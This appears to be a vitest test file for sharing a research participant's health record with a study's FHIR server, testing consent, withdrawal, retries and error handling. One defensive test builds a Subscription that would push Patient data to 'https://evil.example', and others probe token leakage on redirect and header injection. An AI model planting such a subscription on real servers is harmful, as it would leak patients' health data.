import { createHash } from 'node:crypto'
import { afterEach, expect, test } from 'vitest'
import { type FhirServer, type Stored, startFhirServer } from '../../test-support/fhir-server.js'
import { decimal, testConsent, testPackage, testRecord, testStudy } from '../../test-support/packed.js'
import { type Heard, json, startServer, type TestServer } from '../../test-support/server.js'
import { faultsOf } from '../../test-support/validator.js'
import { consentFromFhir } from './consent-fhir.js'
import type { DeliveryProgress } from './delivery.js'
import { fhirDelivery } from './fhir-delivery.js'
import { createPackage } from './package.js'
import { readShare, share } from './share.js'
import { withdraw } from './withdraw.js'

const running: { stop(): Promise<void> }[] = []
afterEach(async () => {
  for (const one of running.splice(0)) await one.stop()
})
async function open(): Promise<FhirServer> {
  const server = await startFhirServer()
  running.push(server)
  return server
}
const authorize = () => 'token-1'
const deliveryTo = (fhir: FhirServer, batchSize = 48) => fhirDelivery({ url: fhir.url, authorize, batchSize })

async function shared(fhir: FhirServer, participant = 'p-0042') {
  const study = testStudy(fhir.url)
  const consent = testConsent(study, participant)
  const record = await testRecord({ labs: 5 })
  const deliver = fhirDelivery({ url: fhir.url, authorize, batchSize: 3, study })
  const given = await share([record], { study, consent, deliver })
  return { study, consent, record, deliver, share: given }
}
const writes = ({ server }: FhirServer): Heard[] => server.heard.filter(({ method }) => method === 'POST')
const all = async (fhir: FhirServer) =>
  Promise.all((await fhir.names()).map(async (name) => (await fhir.read(name)) as Stored))

/** Every literal reference in a resource. */
function referencesIn(value: unknown): string[] {
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, one]) =>
    key === 'reference' && typeof one === 'string' ? [one] : referencesIn(one),
  )
}

test('F14 a study that runs a FHIR server receives the record as FHIR, with consent, provenance and files', async () => {
  const fhir = await open()
  const { study, consent, share: given } = await shared(fhir)
  const found = await all(fhir)
  const counts: Record<string, number> = {}
  for (const { resourceType } of found) counts[resourceType] = (counts[resourceType] ?? 0) + 1
  expect(counts).toEqual({
    Patient: 1,
    Observation: 5,
    DocumentReference: 3,
    Binary: 2,
    Consent: 1,
    Provenance: 4,
  })
  for (const resource of found) expect(faultsOf(resource)).toEqual([])
  const agreed = found.find(({ resourceType }) => resourceType === 'Consent')
  expect(consentFromFhir(agreed, study).digest).toBe(consent.digest)
  expect(given.receipt).toMatchObject({ issuer: 'fhir-server', digest: given.digest, resources: 7 })
  expect(given.receipt.id).toMatch(/^DocumentReference\/s4s-[0-9a-f]{40}\/_history\//)
  expect(readShare(JSON.parse(JSON.stringify(given))).receipt).toEqual(given.receipt)
})

test('every reference leads to what is on the server, or says where it was left', async () => {
  const fhir = await open()
  await shared(fhir)
  const names = new Set(await fhir.names())
  const references = (await all(fhir)).flatMap(referencesIn)
  const elsewhere = references.filter((one) => !names.has(one))
  expect(new Set(elsewhere)).toEqual(new Set(['https://mercy.example/r4/Practitioner/9']))
  expect(references.length - elsewhere.length).toBeGreaterThan(20)
})

test('the manifest and each file are on the server byte for byte, under the digest of the package', async () => {
  const fhir = await open()
  const { share: given } = await shared(fhir)
  const found = await all(fhir)
  const own = found.find(
    ({ masterIdentifier }) => (masterIdentifier as { value?: string })?.value === given.digest,
  )
  expect(own).toMatchObject({ docStatus: 'final' })
  const bytes = (url: string): Promise<Buffer> =>
    fhir.read(url).then((one) => Buffer.from(String(one?.data), 'base64'))
  const urlOf = (one: unknown): string =>
    (one as { content: { attachment: { url: string } }[] }).content[0]?.attachment.url ?? ''
  expect(
    createHash('sha256')
      .update(await bytes(urlOf(own)))
      .digest('hex'),
  ).toBe(given.digest)
  const file = found.find(
    (one) => one.resourceType === 'DocumentReference' && urlOf(one).startsWith('Binary/') && one !== own,
  )
  expect((await bytes(urlOf(file))).toString()).toBe('%PDF-1')
})

test('T62 a decimal reaches the FHIR server with the digits that its own server wrote', async () => {
  const fhir = await open()
  await shared(fhir)
  const sent = writes(fhir)
    .map(({ body }) => body)
    .join('')
  expect(sent.split(`"value":${decimal},`)).toHaveLength(6)
})

test('T71 neither what was not agreed to nor a secret of the consent is sent', async () => {
  const fhir = await open()
  const { consent, share: given, deliver } = await shared(fhir)
  await withdraw(given, { deliver })
  const sent = fhir.server.heard.map(({ body }) => body).join('')
  expect(sent).not.toContain('"Condition"')
  expect(sent).not.toContain(consent.withdrawalKey)
  expect(sent).not.toContain(consent.sealingKey)
})

test('the same package again is found to be there, and nothing is written', async () => {
  const fhir = await open()
  const { study, consent, record, deliver, share: given } = await shared(fhir)
  const before = writes(fhir).length
  const again = await share([record], { study, consent, deliver })
  expect(again.receipt).toEqual(given.receipt)
  expect(writes(fhir)).toHaveLength(before)
})

test('a delivery that is cut off anywhere goes on where it was, and writes nothing twice', async () => {
  const { pack } = await testPackage({ labs: 7 })
  const whole = await open()
  await deliveryTo(whole, 2).deliver(pack)
  const names = await whole.names()
  for (let at = 0; at < whole.server.heard.length; at++) {
    const fhir = await open()
    let count = 0
    fhir.before = () => (count++ === at ? 400 : undefined)
    await expect(deliveryTo(fhir, 2).deliver(pack)).rejects.toMatchObject({
      code: 'SHARE_REFUSED',
      status: 400,
    })
    const receipt = await deliveryTo(fhir, 2).deliver(pack)
    expect(receipt.digest).toBe(pack.digest)
    expect((await fhir.names()).sort()).toEqual([...names].sort())
    const bodies = writes(fhir).map(({ body }) => body.replace(/"date":"[^"]*"/g, ''))
    // The one that was refused is sent again, and no other.
    expect(bodies.length - new Set(bodies).size).toBeLessThanOrEqual(1)
  }
})

test('a server that is busy, or whose answer is lost, is asked again', async () => {
  const { pack } = await testPackage()
  const fhir = await open()
  const seen = new Map<string, number>()
  const odd = ({ method, path, body }: Heard): boolean => {
    const key = method + path + body.replace(/"date":"[^"]*"/g, '')
    seen.set(key, (seen.get(key) ?? 0) + 1)
    return seen.get(key) === 1
  }
  fhir.before = (request) => (odd(request) ? 429 : undefined)
  fhir.after = ({ method }) => (method === 'POST' && fhir.server.heard.length % 3 === 0 ? 503 : undefined)
  const progress: DeliveryProgress[] = []
  await deliveryTo(fhir, 2).deliver(pack, { onProgress: (one) => progress.push(one) })
  expect(progress.at(-1)).toEqual({ done: pack.parts.length, total: pack.parts.length })
  expect(progress.map(({ done }) => done)).toEqual(progress.map(({ done }) => done).sort((a, b) => a - b))
  expect((await all(fhir)).filter(({ resourceType }) => resourceType === 'Observation')).toHaveLength(3)
})

test('a server that stays away, or asks for too long a wait, ends in an error that says retry', async () => {
  const { pack } = await testPackage()
  const fhir = await open()
  fhir.before = () => 503
  fhir.retryAfter = '3600'
  await expect(deliveryTo(fhir).deliver(pack)).rejects.toMatchObject({
    code: 'SHARE_UNREACHABLE',
    remedy: 'retry',
    retryAfter: 3600,
  })
})

test('a participant who withdraws finds all that was sent deleted, and nothing is taken any more', async () => {
  const fhir = await open()
  const other = await shared(fhir, 'p-0099')
  const kept = await fhir.names()
  const { study, consent, record, deliver, share: given } = await shared(fhir)
  const done = await withdraw(given, { deliver })
  expect(done.study).toMatchObject({ status: 'acknowledged', deleted: true })
  const left = (await fhir.names()).filter((name) => !kept.includes(name))
  expect(left).toHaveLength(1)
  expect(await fhir.read(left[0] as string)).toMatchObject({ resourceType: 'Consent', status: 'inactive' })
  expect(kept.every((name) => name !== left[0])).toBe(true)
  for (const name of kept) expect(await fhir.read(name), name).toBeDefined()
  await expect(share([record], { study, consent, deliver })).rejects.toMatchObject({
    code: 'SHARE_WITHDRAWN',
  })
  expect((await withdraw(given, { deliver })).study).toMatchObject({ status: 'acknowledged', deleted: true })
  expect((await other.deliver.withdraw({ ...noticeOf(other.share), ask: 'stop' })).deleted).toBe(false)
})

const noticeOf = (given: Awaited<ReturnType<typeof share>>) => ({
  format: 's4s-withdrawal/1' as const,
  study: given.study.id,
  participant: given.participant,
  digest: given.digest,
  consent: given.consent.id,
  ask: 'delete' as const,
  at: '2026-02-01T00:00:00.000Z',
  key: given.consent.withdrawalKey,
})

test('a participant who asks to stop leaves what was shared, and nothing more is taken', async () => {
  const fhir = await open()
  const { study, consent, record, deliver, share: given } = await shared(fhir)
  const before = await fhir.names()
  const done = await withdraw(given, { deliver, ask: 'stop' })
  expect(done.study).toMatchObject({ status: 'acknowledged', deleted: false })
  expect(await fhir.names()).toEqual(before)
  await expect(share([record], { study, consent, deliver })).rejects.toMatchObject({
    code: 'SHARE_WITHDRAWN',
  })
})

test('a server that lets nothing be deleted still hears what was asked, and nobody is told that it is gone', async () => {
  const fhir = await open()
  const { deliver, share: given } = await shared(fhir)
  const before = await fhir.names()
  fhir.before = ({ body }) => (body.includes('"DELETE"') ? 403 : undefined)
  for (const ask of ['stop', 'delete', 'stop'] as const) {
    const done = await withdraw(given, { deliver, ask })
    expect(done.study).toMatchObject({ status: 'acknowledged', deleted: false })
  }
  expect(await fhir.names()).toEqual(before)
  const consent = (await all(fhir)).find(({ resourceType }) => resourceType === 'Consent')
  expect(faultsOf(consent)).toEqual([])
  expect(consent).toMatchObject({
    status: 'inactive',
    extension: [{}, { extension: [{ valueCode: 'delete' }, {}] }],
  })
})

test('a participant who leaves the page stops the delivery', async () => {
  const fhir = await open()
  const abort = new AbortController()
  fhir.before = ({ method }) => {
    if (method === 'POST') abort.abort(new Error('left'))
    return undefined
  }
  const { pack } = await testPackage()
  await expect(deliveryTo(fhir).deliver(pack, { signal: abort.signal })).rejects.toThrow('left')
  expect(writes(fhir)).toHaveLength(1)
})

test('T72 a deletion that is cut off anywhere is finished by the same call', async () => {
  const fhir = await open()
  const { deliver, share: given } = await shared(fhir)
  for (let at = 1; ; at++) {
    let count = 0
    fhir.before = () => (++count === at ? 400 : undefined)
    const done = await withdraw(given, { deliver })
    if (done.study.deleted) break
    expect(done.complete).toBe(false)
  }
  fhir.before = () => undefined
  expect(await fhir.names()).toHaveLength(1)
})

test('a server that lists what is not ours is asked to delete none of it', async () => {
  const fhir = await open()
  const { deliver, share: given } = await shared(fhir)
  const [marker] = (await fhir.names()).filter((name) => name.startsWith('Provenance/'))
  const provenance = (await fhir.read(marker as string)) as Stored
  const foreign = ['Patient/of-another-study', 'Patient?name=x'].map((reference) => ({ reference }))
  await fhir.write({ ...provenance, target: [...foreign, ...(provenance.target as unknown[])] })
  const { server } = fhir
  await withdraw(given, { deliver })
  const deleted = server.heard.flatMap(({ body }) =>
    [...body.matchAll(/"DELETE","url":"([^"]*)"/g)].map(([, url]) => url),
  )
  expect(deleted.length).toBeGreaterThan(5)
  for (const url of deleted) expect(url).toMatch(/^[A-Za-z]+\/s4s-[0-9a-f]{40}$/)
})

test('two participants of the same provider share nothing on the server', async () => {
  const fhir = await open()
  await shared(fhir, 'p-1')
  const first = new Set(await fhir.names())
  await shared(fhir, 'p-2')
  expect(await fhir.names()).toHaveLength(2 * first.size)
})

test('what would act on a server is given to it as a file', async () => {
  const fhir = await open()
  const study = testStudy(fhir.url)
  const consent = testConsent(study)
  const subscription =
    '{"resourceType":"Subscription","id":"s1","status":"requested","criteria":"Patient?","channel":{"type":"rest-hook","endpoint":"https://evil.example"}}'
  const { pack, record } = await testPackage({ study })
  const odd = {
    ...record,
    types: () => ({ ...record.types(), Subscription: 1 }),
    lines: (type: string, classes?: ReadonlySet<string>) =>
      type === 'Subscription' ? [subscription] : record.lines(type, classes),
  }
  const made = await createPackage([odd], { study, consent })
  expect(made.manifest.parts.length).toBe(pack.manifest.parts.length + 1)
  await deliveryTo(fhir).deliver(made)
  const found = await all(fhir)
  expect(found.map(({ resourceType }) => resourceType)).not.toContain('Subscription')
  const texts = found.map(({ data }) => Buffer.from(String(data ?? ''), 'base64').toString())
  expect(texts).toContain(subscription)
})

test('a sealed package, or a study that signs its receipts, does not go to a FHIR server', async () => {
  const fhir = await open()
  const { pack } = await testPackage()
  const deliver = deliveryTo(fhir)
  await expect(deliver.deliver({ ...pack, sealed: true })).rejects.toMatchObject({ code: 'CONFIG_INVALID' })
  const study = testStudy(fhir.url, { receiptKeys: [{ kty: 'EC', crv: 'P-256', x: 'x', y: 'y' }] })
  const record = await testRecord()
  await expect(share([record], { study, consent: testConsent(study), deliver })).rejects.toMatchObject({
    code: 'CONFIG_INVALID',
  })
  expect(fhir.server.heard).toEqual([])
})

test('a server that does not know the app is not asked twice', async () => {
  const fhir = await open()
  const { pack } = await testPackage()
  const deliver = fhirDelivery({ url: fhir.url, authorize: async () => 'another' })
  await expect(deliver.deliver(pack)).rejects.toMatchObject({ code: 'SHARE_KEY_REFUSED', status: 401 })
  expect(fhir.server.heard).toHaveLength(1)
})

async function scripted(answer: Parameters<typeof startServer>[0]): Promise<TestServer> {
  const server = await startServer(answer)
  running.push(server)
  return server
}

test('T76 the token goes nowhere but to the FHIR base, wherever the server sends it', async () => {
  const { pack } = await testPackage()
  const elsewhere = await scripted((_, response) => json(response, {}))
  const server = await scripted((_, response) => {
    response.writeHead(307, { location: `${elsewhere.url}/fhir` }).end()
  })
  const deliver = fhirDelivery({ url: `${server.url}/fhir`, authorize: () => 'secret-token' })
  const error = await deliver.deliver(pack).catch((one: unknown) => one)
  expect(error).toMatchObject({ code: 'SHARE_REFUSED' })
  expect(JSON.stringify(error)).not.toContain('secret-token')
  expect(elsewhere.heard).toEqual([])
})

test('F12 whatever a server answers that is no FHIR ends in a typed error', async () => {
  const { pack } = await testPackage()
  const answers: unknown[] = [
    ...['<html>welcome</html>', '', 'null', '[]', '{"resourceType":"Bundle"}'],
    ...[
      { resourceType: 'DocumentReference', id: 'other' },
      { type: 'transaction-response', entry: [] },
    ],
    { type: 'transaction-response', entry: [null, {}, { response: { status: '201' } }] },
    { type: 'transaction-response', entry: [1, 2, 3].map(() => ({ response: { status: '422' } })) },
  ]
  for (const answer of answers) {
    for (const method of ['GET', 'POST']) {
      const server = await scripted((request, response) =>
        request.method === method ? json(response, answer) : json(response, {}, 404),
      )
      const deliver = fhirDelivery({ url: `${server.url}/fhir` })
      await expect(deliver.deliver(pack), `${method} ${JSON.stringify(answer)}`).rejects.toMatchObject({
        code: 'SHARE_REFUSED',
      })
    }
  }
})

test('a server that answers that all is stored and has nothing gives no receipt', async () => {
  const { pack } = await testPackage()
  const server = await scripted((request, response) => {
    if (request.method === 'GET') return json(response, {}, 404)
    const entry = JSON.parse(request.body).entry.map(() => ({ response: { status: '201' } }))
    json(response, { resourceType: 'Bundle', type: 'transaction-response', entry })
  })
  const deliver = fhirDelivery({ url: `${server.url}/fhir` })
  await expect(deliver.deliver(pack)).rejects.toMatchObject({ code: 'SHARE_RECEIPT_INVALID' })
})

test('a delivery that cannot work is refused when it is made', () => {
  expect(() => fhirDelivery({ url: 'http://fhir.example/r4' })).toThrow(
    expect.objectContaining({ code: 'CONFIG_INSECURE_URL' }),
  )
  for (const options of [
    { url: 'not a url' },
    { url: 'https://fhir.example/r4?x=1' },
    { url: 'https://fhir.example/r4', batchSize: 0 },
    { url: 'https://fhir.example/r4', headers: { 'x-key': 'secret\nvalue' } },
  ])
    expect(() => fhirDelivery(options)).toThrow(expect.objectContaining({ code: 'CONFIG_INVALID' }))
})
